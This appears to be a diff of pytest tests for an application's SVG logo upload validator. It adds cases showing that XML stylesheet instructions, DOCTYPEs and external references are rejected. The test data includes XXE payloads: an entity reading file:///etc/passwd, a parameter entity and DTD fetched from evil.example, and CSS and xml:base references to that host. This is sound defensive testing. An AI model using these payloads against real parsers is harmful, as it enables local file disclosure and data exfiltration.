@@ -10,7 +10,7 @@ from arbill_app.kernel.db import read, write
 from arbill_app.kernel.errors import Forbidden, Invalid, NotFound
 from arbill_app.partners import branding, entities, picture, queries
 from arbill_app.partners.colour import contrast, ink_on
-from arbill_app.partners.drawing import DEEPEST, MOST, complaint_about
+from arbill_app.partners.drawing import DEEPEST, INSTRUCTED, MOST, NOT_PLAIN, complaint_about
 
 PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 120, 60) + b"\x08\x02\x00\x00\x00rest"
 JPEG = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xff\xc2\x00\x11\x08\x00\x3c\x00\x78\x03rest"
@@ -190,6 +190,58 @@ def test_what_does_more_than_draw_is_refused(inside):
 )
 def test_hidden_letters_and_entities_are_refused(content):
     assert complaint_about(content) == "Save the SVG as UTF-8 without a DOCTYPE."
+
+
+STYLED = b'<?xml-stylesheet href="https://evil.example/x.css"?>'
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        STYLED + svg(),
+        b'<?xml version="1.0" encoding="UTF-8"?>\n' + STYLED + svg(),
+        b"<!-- a logo -->" + STYLED + svg(),
+        b'<?xml-stylesheet type="text/xsl" href="#x"?>' + svg(),
+        svg(STYLED.decode()),
+        svg("<g><?php echo 1 ?></g>"),
+        svg('<metadata><?xpacket begin="" id="x"?></metadata>'),
+        svg() + STYLED,
+    ],
+)
+def test_instructions_for_programs_are_refused_with_a_sentence_beside_the_field(two, content):
+    for refuse in (lambda: branding.checked(content), lambda: write(two.nora, branding.save_logo, content)):
+        with pytest.raises(Invalid) as refused:
+            refuse()
+        assert refused.value.errors == {"file": INSTRUCTED}
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+        '<?xml version="1.0"?><!DOCTYPE svg>',
+        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">',
+        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "x">]>',
+        '<!DOCTYPE svg [\n<!ENTITY % c SYSTEM "https://evil.example/c"> %c; ]  >\n',
+    ],
+)
+def test_a_doctype_is_refused_with_a_sentence_that_says_what_to_do(before):
+    for content in (before.encode() + svg(), b"\xef\xbb\xbf" + before.encode() + svg()):
+        with pytest.raises(Invalid) as refused:
+            branding.checked(content)
+        assert refused.value.errors == {"file": "Save the SVG as UTF-8 without a DOCTYPE."}
+
+
+@pytest.mark.parametrize("base", ['xml:base="https://evil.example/"', 'base="https://evil.example/"'])
+def test_another_place_for_references_is_refused(base):
+    assert complaint_about(svg(f'<g {base}><use href="#a"/></g>')) == NOT_PLAIN
+    assert complaint_about(svg('<style>rect{fill:src("https://evil.example/x")}</style>')) == NOT_PLAIN
+
+
+@pytest.mark.parametrize("content", [b"<?" * 50_000, b"<!--" * 50_000, b"<!DOCTYPE[" * 50_000, b"<? ?>" * 50_000])
+def test_what_only_looks_like_the_beginning_of_an_svg_is_told_quickly(content):
+    with pytest.raises(Invalid):
+        branding.checked(content)
 
 
 @pytest.mark.parametrize(
